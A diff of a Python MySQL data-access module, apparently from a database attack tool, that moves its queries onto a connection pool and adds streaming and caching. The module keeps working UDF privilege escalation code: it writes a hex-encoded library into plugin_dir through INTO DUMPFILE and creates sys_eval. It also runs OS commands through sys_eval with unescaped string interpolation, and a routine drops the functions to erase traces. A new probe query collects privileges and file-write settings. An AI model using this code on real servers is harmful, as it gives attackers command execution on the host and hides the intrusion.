@@ -2,9 +2,138 @@
 MySQL 数据库操作 DAO
 """
 import pymysql
+import pymysql.cursors
+from pymysql.constants import ER
 import threading
-from typing import Optional, Callable
+import time
+import weakref
+from contextlib import contextmanager
+from pymysql.constants import CLIENT, SERVER_STATUS
+from typing import Optional, Callable, Iterator, List, Sequence, Tuple
 from core.entities import DatabaseSession
+from core.metrics import metrics, session_key
+from database.connection_pool import ConnectionPool
+from database.mysql_connection import ConnectionStats, InstrumentedConnection
+from database.prepared_statement import StatementCache
+from database.result_cache import CachedResult
+from database.sql_script import first_keyword
+
+
+# 流式查询每次从服务端读取的行数
+DEFAULT_FETCH_SIZE = 1000
+
+# 控制台连接空闲超过该时间（秒）后，使用前先 ping 确认连接仍然可用
+CONSOLE_PING_INTERVAL = 30
+
+# 服务端信息缓存有效期（秒），过期后打开窗口时先用缓存显示，再在后台重新探测
+SERVER_INFO_TTL = 24 * 3600
+
+# 服务端信息字段，与 _PROBE_SQL 的列一一对应
+SERVER_INFO_FIELDS = (
+    'version', 'platform', 'machine', 'hostname', 'datadir', 'basedir', 'plugin_dir',
+    'secure_file_priv', 'max_allowed_packet', 'character_set', 'lower_case_table_names',
+    'current_user', 'privileges'
+)
+
+# 全局权限按 'user'@'host' 形式的 GRANTEE 匹配当前账号
+_PROBE_SQL = """
+    SELECT
+        VERSION(), @@version_compile_os, @@version_compile_machine, @@hostname,
+        @@datadir, @@basedir, @@plugin_dir, @@secure_file_priv, @@max_allowed_packet,
+        @@character_set_server, @@lower_case_table_names, CURRENT_USER(),
+        (SELECT GROUP_CONCAT(PRIVILEGE_TYPE ORDER BY PRIVILEGE_TYPE SEPARATOR ',')
+         FROM information_schema.USER_PRIVILEGES
+         WHERE GRANTEE = CONCAT('''', SUBSTRING_INDEX(CURRENT_USER(), '@', 1), '''@''',
+                                SUBSTRING_INDEX(CURRENT_USER(), '@', -1), ''''))
+"""
+
+
+def _wire_bytes(conn) -> int:
+    """连接累计收发的字节数，非 InstrumentedConnection 时为 0"""
+    stats = getattr(conn, 'stats', None)
+    return stats.bytes_sent + stats.bytes_received if stats is not None else 0
+
+
+class ResultStream:
+    """流式查询结果
+    
+    基于非缓冲的服务端游标（SSCursor），行数据边读边交给调用方，内存占用只与 fetch_size 有关。
+    结果集读完前连接一直被占用，因此每个流独占一个连接，读完后通过 release 归还；
+    提前结束时丢弃该连接，避免 SSCursor.close() 把剩余的行全部读完；
+    查询已被 KILL QUERY 中断（killed 为真）时剩余的数据很少，读完后保留连接。
+    """
+    
+    def __init__(self, connection: pymysql.Connection, sql: str, fetch_size: int = DEFAULT_FETCH_SIZE,
+                 release: Optional[Callable] = None, metrics_key: str = "", log_callback: Optional[Callable] = None):
+        self.connection = connection
+        self.fetch_size = fetch_size
+        self.release = release
+        self.metrics_key = metrics_key
+        self.log_callback = log_callback
+        # 由发送 KILL QUERY 的一方在其成功后设置
+        self.killed = False
+        self.cursor = connection.cursor(pymysql.cursors.SSCursor)
+        with metrics.timer(metrics_key, 'query') as timer:
+            wire = _wire_bytes(connection)
+            self.cursor.execute(sql)
+            timer.add(nbytes=_wire_bytes(connection) - wire)
+        self.columns: List[str] = [desc[0] for desc in self.cursor.description] if self.cursor.description else []
+        self.rowcount = 0
+        self.exhausted = not self.columns
+        if self.exhausted:
+            # 非查询语句没有结果集，记录影响行数后即可结束；是否提交由连接的自动提交设置决定
+            self.rowcount = self.cursor.rowcount
+    
+    def chunks(self) -> Iterator[list]:
+        """按块迭代结果，每块最多 fetch_size 行"""
+        try:
+            while not self.exhausted:
+                with metrics.timer(self.metrics_key, 'fetch') as timer:
+                    wire = _wire_bytes(self.connection)
+                    rows = self.cursor.fetchmany(self.fetch_size)
+                    timer.add(len(rows), _wire_bytes(self.connection) - wire)
+                if not rows:
+                    self.exhausted = True
+                    break
+                self.rowcount += len(rows)
+                yield rows
+        finally:
+            if self.exhausted:
+                self.close()
+    
+    def __iter__(self):
+        """逐行迭代结果"""
+        for rows in self.chunks():
+            yield from rows
+    
+    def log(self, message: str):
+        if self.log_callback:
+            self.log_callback(message)
+    
+    def close(self):
+        """结束查询并释放连接"""
+        connection, self.connection = self.connection, None
+        if connection is None:
+            return
+        keep = self.exhausted or self.killed
+        if keep:
+            try:
+                self.cursor.close()
+            except pymysql.MySQLError as e:
+                # 被 KILL QUERY 中断的查询以 1317 错误结束，连接仍可继续使用
+                if e.args[0] != ER.QUERY_INTERRUPTED:
+                    self.log(f"结束查询失败: {str(e)}")
+                    keep = False
+        if self.release is not None:
+            self.release(connection, discard=not keep)
+        elif connection.open:
+            connection.close()
+    
+    def __enter__(self):
+        return self
+    
+    def __exit__(self, exc_type, exc_val, exc_tb):
+        self.close()
 
 
 class MysqlDao:
@@ -13,12 +142,36 @@ class MysqlDao:
     def __init__(self, session: DatabaseSession):
         """初始化MySQL连接"""
         self.session = session
-        self.connection: Optional[pymysql.Connection] = None
+        self.metrics_key = session_key(session)
+        # 元数据、导出、分页等不依赖会话状态的后台操作从连接池借用各自的连接，可以并行执行
+        self.pool = ConnectionPool(self.connect)
+        # SQL 控制台独占的连接，USE、会话变量、临时表、事务与表锁在各次执行之间保持
+        self._console: Optional[InstrumentedConnection] = None
+        self._console_lock = threading.Lock()
+        self._console_last_used = 0.0
+        # 控制台连接上执行过 LOCK TABLES 且尚未释放，此时执行脚本不再为批次开启事务
+        self.console_tables_locked = False
         self.version = None
         self.platform = None
         self.system_platform = None
+        # 最近一次 probe_server 的结果或本地缓存
+        self.server_info: Optional[dict] = None
+        # 连接 -> 预处理语句缓存，连接关闭回收后缓存随之释放
+        self._statement_caches = weakref.WeakKeyDictionary()
+        self._statement_lock = threading.Lock()
+        # (连接弱引用, 网络统计)，已关闭连接的统计并入 _retired_stats
+        self._tracked_stats = []
+        self._retired_stats = ConnectionStats()
+        self._stats_lock = threading.Lock()
+        # 查询历史记录器（QueryHistoryRecorder），由窗口设置
+        self.history_recorder = None
+        # 查询结果缓存（ResultCache），设置后 execute_sql 的只读查询结果会被缓存
+        self.result_cache = None
+        # 缓存中区分会话的键；默认库不同时不加限定的表名指向不同的表，缓存另按控制台当前的默认库区分
+        self.cache_key = f"{session.id}|{self.metrics_key}"
+        self.cache_database: Optional[str] = session.database
         self.log_callback: Optional[Callable] = None
-        
+    
     def set_log_callback(self, callback: Callable):
         """设置日志回调函数"""
         self.log_callback = callback
@@ -28,127 +181,236 @@ class MysqlDao:
         if self.log_callback:
             self.log_callback(message)
     
-    def get_connection(self) -> pymysql.Connection:
-        """获取数据库连接"""
-        if self.connection is None or not self.connection.open:
-            try:
-                self.connection = pymysql.connect(
-                    host=self.session.ip_address,
-                    port=int(self.session.port),
-                    user=self.session.username,
-                    password=self.session.password,
-                    database=self.session.database,
-                    charset='utf8mb4',
-                    connect_timeout=int(self.session.timeout)
-                )
-                self.log("连接成功!")
-            except Exception as e:
-                self.log(f"连接失败: {str(e)}")
-                raise
+    def connect(self, connection_class: type = InstrumentedConnection, **options) -> InstrumentedConnection:
+        """按会话配置新建一个连接，connection_class 为 InstrumentedConnection 或其子类，
+        options 为额外的连接参数"""
+        # 连接池中的连接会被不同操作复用，默认自动提交，避免归还时残留未结束的事务
+        options.setdefault('autocommit', True)
+        with metrics.timer(self.metrics_key, 'connect') as timer:
+            conn = connection_class(
+                host=self.session.ip_address,
+                port=self.session.port,
+                user=self.session.username,
+                password=self.session.password,
+                database=self.session.database,
+                charset='utf8mb4',
+                connect_timeout=self.session.timeout,
+                compress=self.session.compress,
+                **options
+            )
+            timer.add(nbytes=_wire_bytes(conn))
+        with self._stats_lock:
+            self._tracked_stats.append((weakref.ref(conn), conn.stats))
+        return conn
+    
+    def wire_stats(self) -> ConnectionStats:
+        """本会话全部连接（含已关闭的）的网络统计合计"""
+        with self._stats_lock:
+            total = ConnectionStats()
+            alive = []
+            for ref, stats in self._tracked_stats:
+                if ref() is None:
+                    self._retired_stats = self._retired_stats + stats
+                else:
+                    alive.append((ref, stats))
+                    total = total + stats
+            self._tracked_stats = alive
+            return total + self._retired_stats
+    
+    def acquire_console(self) -> InstrumentedConnection:
+        """独占借出控制台连接，用完后调用 release_console 归还
         
-        return self.connection
+        控制台连接不放入连接池，沿用服务端的自动提交设置，并启用多语句以便执行脚本。
+        连接已断开时重新建立，原连接上的会话状态随之丢失。
+        """
+        self._console_lock.acquire()
+        try:
+            conn = self._console
+            if conn is not None and conn.open and time.monotonic() - self._console_last_used > CONSOLE_PING_INTERVAL:
+                try:
+                    # 不自动重连，否则会话状态丢失而不被察觉
+                    conn.ping(reconnect=False)
+                except Exception:
+                    pass
+            if conn is None or not conn.open:
+                if conn is not None:
+                    self.log("控制台连接已断开，重新连接后默认库、会话变量、临时表、未提交的事务与表锁均已丢失")
+                self.console_tables_locked = False
+                self.cache_database = self.session.database
+                conn = self._console = self.connect(autocommit=None, client_flag=CLIENT.MULTI_STATEMENTS)
+            return conn
+        except BaseException:
+            self._console_lock.release()
+            raise
     
-    def close_connection(self):
-        """关闭数据库连接"""
-        if self.connection:
+    def release_console(self, connection, discard: bool = False):
+        """归还控制台连接，discard 为真或连接已被 close_connection 替换时关闭"""
+        try:
+            if (discard or connection is not self._console) and connection.open:
+                connection.close()
+        finally:
+            self._console_last_used = time.monotonic()
+            self._console_lock.release()
+    
+    @contextmanager
+    def console_connection(self):
+        """独占借出控制台连接的上下文管理器，退出时自动归还"""
+        conn = self.acquire_console()
+        try:
+            yield conn
+        finally:
+            self.release_console(conn)
+    
+    def track_console(self, conn: pymysql.Connection, sql: str):
+        """控制台连接上成功执行了 sql，记录表锁状态（开启事务会隐式释放表锁）与当前默认库"""
+        keyword = first_keyword(sql)
+        if keyword == 'LOCK':
+            self.console_tables_locked = True
+        elif keyword in ('UNLOCK', 'BEGIN', 'START'):
+            self.console_tables_locked = False
+        elif keyword == 'USE':
             try:
-                self.connection.close()
-                self.connection = None
-                self.log("连接已关闭")
-            except Exception as e:
-                self.log(f"关闭连接失败: {str(e)}")
+                with conn.cursor() as cursor:
+                    cursor.execute("SELECT DATABASE()")
+                    database = cursor.fetchone()[0]
+            except pymysql.Error:
+                # 无法确定默认库时使用不会与其他结果混用的键
+                database = f"?{id(conn)}"
+            self.cache_database = database
+    
+    def console_in_transaction(self) -> bool:
+        """控制台连接上是否有未结束的事务"""
+        conn = self._console
+        return conn is not None and conn.open and bool(conn.server_status & SERVER_STATUS.SERVER_STATUS_IN_TRANS)
+    
+    def _close_console(self):
+        """关闭控制台连接，正在使用时由使用方在归还时关闭"""
+        conn, self._console = self._console, None
+        if conn is None or not self._console_lock.acquire(blocking=False):
+            return
+        try:
+            if conn.open:
+                conn.close()
+        finally:
+            self._console_lock.release()
+    
+    def get_connection(self):
+        """建立连接并放入连接池，确认会话配置可用"""
+        try:
+            with self.pool.connection() as conn:
+                compressed = conn.compressed
+            self.log("连接成功!（已启用压缩协议）" if compressed else "连接成功!")
+            if self.session.compress and not compressed:
+                self.log("服务端不支持压缩协议，使用普通协议")
+        except Exception as e:
+            self.log(f"连接失败: {str(e)}")
+            raise
+    
+    def close_connection(self):
+        """关闭控制台连接与连接池中的所有连接，之后的操作会使用新的连接"""
+        try:
+            with metrics.timer(self.metrics_key, 'close'):
+                self._close_console()
+                self.pool.close()
+            self.pool = ConnectionPool(self.connect)
+            self.log("连接已关闭")
+        except Exception as e:
+            self.log(f"关闭连接失败: {str(e)}")
     
     def test_connection(self) -> bool:
         """测试数据库连接"""
         try:
-            conn = self.get_connection()
-            cursor = conn.cursor()
-            cursor.execute("SELECT 1")
-            cursor.close()
-            return True
+            with self.pool.connection() as conn:
+                cursor = conn.cursor()
+                cursor.execute("SELECT 1")
+                cursor.close()
+                return True
         except Exception as e:
             self.log(f"测试连接失败: {str(e)}")
             return False
     
-    def get_info(self):
-        """获取数据库基本信息"""
-        try:
-            conn = self.get_connection()
+    def probe_server(self) -> dict:
+        """一次查询取回服务端信息（版本、平台、关键变量、当前账号及其全局权限）"""
+        with self.pool.connection() as conn:
             cursor = conn.cursor()
-            
-            # 获取版本信息
-            cursor.execute("SELECT VERSION() as version")
-            result = cursor.fetchone()
-            if result:
-                self.version = result[0]
-                self.log(f"MySQL版本: {self.version}")
-            
-            # 获取系统信息
-            cursor.execute("SELECT @@version_compile_os as platform")
-            result = cursor.fetchone()
-            if result:
-                self.platform = result[0]
-                self.log(f"系统平台: {self.platform}")
-            
-            # 获取位数信息
-            cursor.execute("SELECT @@version_compile_machine as machine")
-            result = cursor.fetchone()
-            if result:
-                self.system_platform = result[0]
-                self.log(f"系统位数: {self.system_platform}")
-            
+            cursor.execute(_PROBE_SQL)
+            row = cursor.fetchone()
             cursor.close()
-            
+        # 缓存为 JSON，二进制值按 UTF-8 解码
+        return {
+            field: value.decode('utf-8', 'replace') if isinstance(value, bytes) else value
+            for field, value in zip(SERVER_INFO_FIELDS, row)
+        }
+    
+    def apply_server_info(self, info: dict, cached: bool = False):
+        """使用服务端信息（探测结果或本地缓存）"""
+        self.server_info = info
+        self.version = info.get('version')
+        self.platform = info.get('platform')
+        self.system_platform = info.get('machine')
+        suffix = "（缓存）" if cached else ""
+        self.log(f"MySQL版本: {self.version}{suffix}")
+        self.log(f"系统平台: {self.platform}{suffix}")
+        self.log(f"系统位数: {self.system_platform}{suffix}")
+        self.log(f"当前用户: {info.get('current_user')}，全局权限: {info.get('privileges') or '无'}{suffix}")
+    
+    def get_info(self) -> Optional[dict]:
+        """获取数据库基本信息，失败时返回 None"""
+        try:
+            info = self.probe_server()
         except Exception as e:
             self.log(f"获取信息失败: {str(e)}")
+            return None
+        self.apply_server_info(info)
+        return info
     
     def execute_command(self, command: str, encoding: str = 'utf-8') -> str:
         """执行系统命令（通过UDF函数）"""
         try:
-            conn = self.get_connection()
-            cursor = conn.cursor()
-            
-            # 使用 sys_eval UDF函数执行命令
-            sql = f"SELECT sys_eval('{command}') as result"
-            cursor.execute(sql)
-            result = cursor.fetchone()
-            
-            cursor.close()
-            
-            if result and result[0] is not None:
-                raw_result = result[0]
+            with self.pool.connection() as conn:
+                cursor = conn.cursor()
+                
+                # 使用 sys_eval UDF函数执行命令
+                sql = f"SELECT sys_eval('{command}') as result"
+                cursor.execute(sql)
+                result = cursor.fetchone()
                 
-                # 处理 bytes 类型
-                if isinstance(raw_result, bytes):
-                    try:
-                        # 直接解码 bytes
-                        decoded = raw_result.decode(encoding, errors='ignore')
-                        return decoded if decoded.strip() else "命令执行完成（无输出）"
-                    except Exception as decode_error:
-                        self.log(f"字节解码失败: {str(decode_error)}")
-                        return str(raw_result)
+                cursor.close()
                 
-                # 检查是否是十六进制格式字符串（UDF 可能返回 0x 开头的十六进制字符串）
-                elif isinstance(raw_result, str) and raw_result.startswith('0x'):
-                    try:
-                        # 去掉 0x 前缀并解码
-                        hex_str = raw_result[2:]
-                        if hex_str:
-                            decoded = bytes.fromhex(hex_str).decode(encoding, errors='ignore')
+                if result and result[0] is not None:
+                    raw_result = result[0]
+                    
+                    # 处理 bytes 类型
+                    if isinstance(raw_result, bytes):
+                        try:
+                            # 直接解码 bytes
+                            decoded = raw_result.decode(encoding, errors='ignore')
                             return decoded if decoded.strip() else "命令执行完成（无输出）"
-                        else:
-                            return "命令执行完成（无输出）"
-                    except Exception as decode_error:
-                        # 如果解码失败，返回原始结果
-                        self.log(f"十六进制解码失败: {str(decode_error)}")
-                        return raw_result
+                        except Exception as decode_error:
+                            self.log(f"字节解码失败: {str(decode_error)}")
+                            return str(raw_result)
+                    
+                    # 检查是否是十六进制格式字符串（UDF 可能返回 0x 开头的十六进制字符串）
+                    elif isinstance(raw_result, str) and raw_result.startswith('0x'):
+                        try:
+                            # 去掉 0x 前缀并解码
+                            hex_str = raw_result[2:]
+                            if hex_str:
+                                decoded = bytes.fromhex(hex_str).decode(encoding, errors='ignore')
+                                return decoded if decoded.strip() else "命令执行完成（无输出）"
+                            else:
+                                return "命令执行完成（无输出）"
+                        except Exception as decode_error:
+                            # 如果解码失败，返回原始结果
+                            self.log(f"十六进制解码失败: {str(decode_error)}")
+                            return raw_result
+                    else:
+                        # 其他类型直接转字符串
+                        result_str = str(raw_result)
+                        return result_str if result_str.strip() else "命令执行完成（无输出）"
                 else:
-                    # 其他类型直接转字符串
-                    result_str = str(raw_result)
-                    return result_str if result_str.strip() else "命令执行完成（无输出）"
-            else:
-                return "命令执行完成（无输出）"
-                
+                    return "命令执行完成（无输出）"
+        
         except pymysql.Error as e:
             if "does not exist" in str(e):
                 return "错误: sys_eval 函数不存在，请先进行 UDF 提权"
@@ -161,80 +423,80 @@ class MysqlDao:
         """UDF提权"""
         try:
             self.log("开始 UDF 提权...")
-            conn = self.get_connection()
-            cursor = conn.cursor()
-            cursor.execute("SHOW VARIABLES LIKE 'plugin_dir'")
-            result = cursor.fetchone()
-            if not result:
-                self.log("无法获取 plugin_dir")
-                return False
-            plugin_dir = result[1]
-            self.log(f"Plugin 目录: {plugin_dir}")
+            with self.pool.connection() as conn:
+                cursor = conn.cursor()
+                cursor.execute("SHOW VARIABLES LIKE 'plugin_dir'")
+                result = cursor.fetchone()
+                if not result:
+                    self.log("无法获取 plugin_dir")
+                    return False
+                plugin_dir = result[1]
+                self.log(f"Plugin 目录: {plugin_dir}")
 
-            # 自动选择UDF文件
-            platform = (self.platform or '').lower()
-            system_platform = (self.system_platform or '').lower()
-            udf_dir = r'database/plugins/Mysql'
-            import os
-            udf_file = None
-            if 'win' in platform:
-                if '64' in system_platform:
-                    udf_file = os.path.join(udf_dir, 'udf_win64_hex.txt')
+                # 自动选择UDF文件
+                platform = (self.platform or '').lower()
+                system_platform = (self.system_platform or '').lower()
+                udf_dir = r'database/plugins/Mysql'
+                import os
+                udf_file = None
+                if 'win' in platform:
+                    if '64' in system_platform:
+                        udf_file = os.path.join(udf_dir, 'udf_win64_hex.txt')
+                    else:
+                        udf_file = os.path.join(udf_dir, 'udf_win32_hex.txt')
+                elif 'linux' in platform:
+                    if '64' in system_platform:
+                        udf_file = os.path.join(udf_dir, 'udf_linux64_hex.txt')
+                    else:
+                        udf_file = os.path.join(udf_dir, 'udf_linux32_hex.txt')
                 else:
-                    udf_file = os.path.join(udf_dir, 'udf_win32_hex.txt')
-            elif 'linux' in platform:
-                if '64' in system_platform:
-                    udf_file = os.path.join(udf_dir, 'udf_linux64_hex.txt')
+                    self.log(f"不支持的平台: {platform}")
+                    cursor.close()
+                    return False
+                
+                # 读取UDF文件内容
+                try:
+                    with open(udf_file, 'r') as f:
+                        udf_hex = f.read().strip()
+                    if not udf_hex.startswith('0x'):
+                        self.log("UDF文件格式错误")
+                        cursor.close()
+                        return False
+                except Exception as e:
+                    self.log(f"读取UDF文件失败: {str(e)}")
+                    cursor.close()
+                    return False
+                
+                # 拼接目标路径
+                if platform.startswith('win'):
+                    target_path = os.path.join(plugin_dir, 'lib_mysqldudf_sys.dll')
                 else:
-                    udf_file = os.path.join(udf_dir, 'udf_linux32_hex.txt')
-            else:
-                self.log(f"不支持的平台: {platform}")
-                cursor.close()
-                return False
-
-            # 读取UDF文件内容
-            try:
-                with open(udf_file, 'r') as f:
-                    udf_hex = f.read().strip()
-                if not udf_hex.startswith('0x'):
-                    self.log("UDF文件格式错误")
+                    target_path = os.path.join(plugin_dir, 'lib_mysqldudf_sys.so')
+                
+                self.log(f"准备写入UDF库到: {target_path}")
+                
+                # 写入UDF库文件
+                try:
+                    sql = f"SELECT CAST({udf_hex} AS BINARY) INTO DUMPFILE '{target_path.replace('\\', '/')}'"
+                    cursor.execute(sql)
+                    self.log("UDF库文件写入成功")
+                except Exception as e:
+                    self.log(f"写入UDF库失败: {str(e)}")
                     cursor.close()
                     return False
-            except Exception as e:
-                self.log(f"读取UDF文件失败: {str(e)}")
-                cursor.close()
-                return False
-
-            # 拼接目标路径
-            if platform.startswith('win'):
-                target_path = os.path.join(plugin_dir, 'lib_mysqldudf_sys.dll')
-            else:
-                target_path = os.path.join(plugin_dir, 'lib_mysqldudf_sys.so')
-
-            self.log(f"准备写入UDF库到: {target_path}")
-
-            # 写入UDF库文件
-            try:
-                sql = f"SELECT CAST({udf_hex} AS BINARY) INTO DUMPFILE '{target_path.replace('\\', '/')}'"
-                cursor.execute(sql)
-                self.log("UDF库文件写入成功")
-            except Exception as e:
-                self.log(f"写入UDF库失败: {str(e)}")
-                cursor.close()
-                return False
-
-            # 创建UDF函数
-            try:
-                cursor.execute("CREATE FUNCTION sys_eval RETURNS STRING SONAME 'lib_mysqldudf_sys.dll'" if platform.startswith('win') else "CREATE FUNCTION sys_eval RETURNS STRING SONAME 'lib_mysqldudf_sys.so'")
-                self.log("UDF函数 sys_eval 创建成功")
-            except Exception as e:
-                self.log(f"创建UDF函数失败: {str(e)}")
+                
+                # 创建UDF函数
+                try:
+                    cursor.execute("CREATE FUNCTION sys_eval RETURNS STRING SONAME 'lib_mysqldudf_sys.dll'" if platform.startswith('win') else "CREATE FUNCTION sys_eval RETURNS STRING SONAME 'lib_mysqldudf_sys.so'")
+                    self.log("UDF函数 sys_eval 创建成功")
+                except Exception as e:
+                    self.log(f"创建UDF函数失败: {str(e)}")
+                    cursor.close()
+                    return False
+                
                 cursor.close()
-                return False
-
-            cursor.close()
-            self.log("UDF提权完成！")
-            return True
+                self.log("UDF提权完成！")
+                return True
         except Exception as e:
             self.log(f"UDF 提权失败: {str(e)}")
             return False
@@ -244,45 +506,197 @@ class MysqlDao:
         try:
             self.log("开始清理痕迹...")
             
-            conn = self.get_connection()
-            cursor = conn.cursor()
-            
-            # 删除自定义函数
-            try:
-                cursor.execute("DROP FUNCTION IF EXISTS sys_eval")
-                self.log("已删除 sys_eval 函数")
-            except:
-                pass
-            
-            try:
-                cursor.execute("DROP FUNCTION IF EXISTS sys_exec")
-                self.log("已删除 sys_exec 函数")
-            except:
-                pass
-            
-            cursor.close()
-            self.log("痕迹清理完成")
-            
+            with self.pool.connection() as conn:
+                cursor = conn.cursor()
+                
+                # 删除自定义函数
+                try:
+                    cursor.execute("DROP FUNCTION IF EXISTS sys_eval")
+                    self.log("已删除 sys_eval 函数")
+                except:
+                    pass
+                
+                try:
+                    cursor.execute("DROP FUNCTION IF EXISTS sys_exec")
+                    self.log("已删除 sys_exec 函数")
+                except:
+                    pass
+                
+                cursor.close()
+                self.log("痕迹清理完成")
+        
         except Exception as e:
             self.log(f"清理痕迹失败: {str(e)}")
     
-    def execute_sql(self, sql: str) -> tuple:
-        """执行SQL语句"""
+    def statement_cache(self, conn: pymysql.Connection) -> StatementCache:
+        """连接上的预处理语句缓存"""
+        with self._statement_lock:
+            cache = self._statement_caches.get(conn)
+            if cache is None:
+                cache = self._statement_caches[conn] = StatementCache()
+            return cache
+    
+    def execute_on(self, conn: pymysql.Connection, sql: str, params: Optional[Sequence] = None,
+                   prepared: bool = False) -> tuple:
+        """在指定连接上执行SQL语句，出错时抛出异常
+        
+        params 为参数列表：默认由客户端转义后代入 %s 占位符；prepared 为真时语句使用 ? 占位符，
+        在服务端预处理并按连接缓存句柄，重复执行时服务端不再解析语句。
+        """
+        return self._execute(conn, sql, params, prepared)[0]
+    
+    def _execute(self, conn: pymysql.Connection, sql: str, params: Optional[Sequence],
+                 prepared: bool) -> Tuple[tuple, int]:
+        """执行并记录指标，返回 (execute_on 的结果, 返回或影响的行数)"""
+        with metrics.timer(self.metrics_key, 'query') as timer:
+            wire = _wire_bytes(conn)
+            result, rowcount = self._run_statement(conn, sql, params, prepared)
+            timer.add(rowcount, _wire_bytes(conn) - wire)
+        return result, rowcount
+    
+    def _run_statement(self, conn: pymysql.Connection, sql: str, params: Optional[Sequence],
+                       prepared: bool) -> Tuple[tuple, int]:
+        if prepared:
+            result = self.statement_cache(conn).execute(conn, sql, params or ())
+            if result.columns:
+                return (True, result.rows, result.columns), len(result.rows)
+            return (True, f"影响行数: {result.affected_rows}", []), result.affected_rows
+        
+        cursor = conn.cursor()
+        cursor.execute(sql, params)
+        
+        # 有结果集（SELECT / SHOW / EXPLAIN / DESC / WITH 等）时返回结果
+        if cursor.description:
+            results = cursor.fetchall()
+            columns = [desc[0] for desc in cursor.description] if cursor.description else []
+            cursor.close()
+            return (True, results, columns), len(results)
+        else:
+            cursor.close()
+            return (True, f"影响行数: {cursor.rowcount}", []), cursor.rowcount
+    
+    def record_history(self, sql: str, duration: float, rows: int = 0, error: Optional[str] = None):
+        """记录到查询历史；未设置 history_recorder 或会话未保存时忽略"""
+        if self.history_recorder is not None and self.session.id:
+            self.history_recorder.record(self.session.id, sql, duration, max(rows, 0), error)
+    
+    def cached_result(self, sql: str, params: Optional[Sequence] = None) -> Optional[CachedResult]:
+        """控制台执行 sql 之前查找缓存；未启用缓存、未命中或控制台连接在事务中时返回 None"""
+        if self.result_cache is None or self.console_in_transaction():
+            return None
+        return self.result_cache.get(self.cache_key, sql, params, self.cache_database)
+    
+    def cache_result(self, sql: str, params: Optional[Sequence], columns: List[str], rows: Sequence[tuple],
+                     elapsed: float, size: Optional[int] = None):
+        """缓存控制台查询的结果；事务中读到的结果可能包含之后被回滚的修改，不缓存"""
+        if self.result_cache is not None and not self.console_in_transaction():
+            self.result_cache.put(self.cache_key, sql, params, columns, rows, elapsed, size, self.cache_database)
+    
+    def invalidate_cache(self, sql: str, console: bool = True):
+        """本会话执行了 sql，使受影响的缓存结果失效
+        
+        不加库名的表按执行时的默认库补全：console 为真时是控制台当前的默认库，否则（连接池中的连接）是会话配置的库。
+        """
+        if self.result_cache is not None:
+            database = self.cache_database if console else self.session.database
+            self.result_cache.invalidate(self.cache_key, sql, database)
+    
+    def clear_cache(self):
+        """清空本会话（各默认库下）的缓存结果"""
+        if self.result_cache is not None:
+            self.result_cache.clear(self.cache_key)
+    
+    def execute_sql(self, sql: str, params: Optional[Sequence] = None, prepared: bool = False) -> tuple:
+        """在控制台连接上执行SQL语句，params 与 prepared 见 execute_on；执行结果记录到查询历史
+        
+        启用 result_cache 时只读查询优先返回缓存的结果，写语句使受影响的缓存失效。
+        """
+        start = time.perf_counter()
+        hit = self.cached_result(sql, params)
+        if hit is not None:
+            self.record_history(sql, time.perf_counter() - start, len(hit.rows))
+            return (True, hit.rows, hit.columns)
         try:
-            conn = self.get_connection()
-            cursor = conn.cursor()
-            cursor.execute(sql)
-            
-            # 如果是查询语句，返回结果
-            if sql.strip().upper().startswith('SELECT'):
-                results = cursor.fetchall()
-                columns = [desc[0] for desc in cursor.description] if cursor.description else []
-                cursor.close()
-                return (True, results, columns)
-            else:
-                conn.commit()
-                cursor.close()
-                return (True, f"影响行数: {cursor.rowcount}", [])
-                
+            with self.console_connection() as conn:
+                result, rowcount = self._execute(conn, sql, params, prepared)
+                self.track_console(conn, sql)
+        except Exception as e:
+            # 出错的写语句可能已部分生效
+            self.invalidate_cache(sql)
+            self.record_history(sql, time.perf_counter() - start, error=str(e))
+            return (False, str(e), [])
+        elapsed = time.perf_counter() - start
+        if result[2]:
+            self.cache_result(sql, params, result[2], result[1], elapsed)
+        else:
+            self.invalidate_cache(sql)
+        self.record_history(sql, elapsed, rowcount)
+        return result
+    
+    def execute_many(self, sql: str, params_list: Sequence[Sequence], prepared: bool = False) -> tuple:
+        """以多组参数重复执行同一语句，返回 (是否成功, 影响行数说明, [])
+        
+        prepared 为真时只预处理一次，逐组发送二进制参数；否则使用 cursor.executemany，
+        INSERT ... VALUES 会被合并为多行插入。
+        """
+        try:
+            with self.pool.connection() as conn, metrics.timer(self.metrics_key, 'query') as timer:
+                wire = _wire_bytes(conn)
+                if prepared:
+                    cache = self.statement_cache(conn)
+                    affected = sum(cache.execute(conn, sql, params).affected_rows for params in params_list)
+                else:
+                    cursor = conn.cursor()
+                    affected = cursor.executemany(sql, params_list)
+                    cursor.close()
+                timer.add(affected or 0, _wire_bytes(conn) - wire)
+                return (True, f"影响行数: {affected}", [])
+        except Exception as e:
+            return (False, str(e), [])
+        finally:
+            self.invalidate_cache(sql, console=False)
+    
+    def stream_sql(self, sql: str, fetch_size: int = DEFAULT_FETCH_SIZE, console: bool = False) -> ResultStream:
+        """流式执行SQL语句，返回 ResultStream
+        
+        从连接池（console 为真时为控制台连接）借出一个连接并使用非缓冲游标，首批数据到达即可处理，
+        用完后需调用 close()（或使用 with）归还连接。
+        """
+        if console:
+            acquire, release = self.acquire_console, self.release_console
+        else:
+            acquire, release = self.pool.acquire, self.pool.release
+        conn = acquire()
+        try:
+            stream = ResultStream(conn, sql, fetch_size, release, self.metrics_key, self.log)
+        except Exception:
+            release(conn)
+            raise
+        if console:
+            self.track_console(conn, sql)
+        return stream
+    
+    def execute_sql_stream(self, sql: str, callback: Callable[[List[str], list], Optional[bool]],
+                           fetch_size: int = DEFAULT_FETCH_SIZE) -> tuple:
+        """在控制台连接上流式执行SQL语句，每读取一块数据调用一次 callback(columns, rows)
+        
+        callback 返回 False 时提前结束查询，所用的控制台连接随之关闭，会话状态丢失。返回值与 execute_sql 一致：
+        查询语句为 (True, 已读取行数, 列名)，其他语句为 (True, 影响行数说明, [])。
+        """
+        start = time.perf_counter()
+        try:
+            with self.stream_sql(sql, fetch_size, console=True) as stream:
+                if not stream.columns:
+                    result = (True, f"影响行数: {stream.rowcount}", [])
+                else:
+                    for rows in stream.chunks():
+                        if callback(stream.columns, rows) is False:
+                            break
+                    result = (True, stream.rowcount, stream.columns)
         except Exception as e:
+            self.invalidate_cache(sql)
+            self.record_history(sql, time.perf_counter() - start, error=str(e))
             return (False, str(e), [])
+        self.invalidate_cache(sql)
+        self.record_history(sql, time.perf_counter() - start, stream.rowcount)
+        return result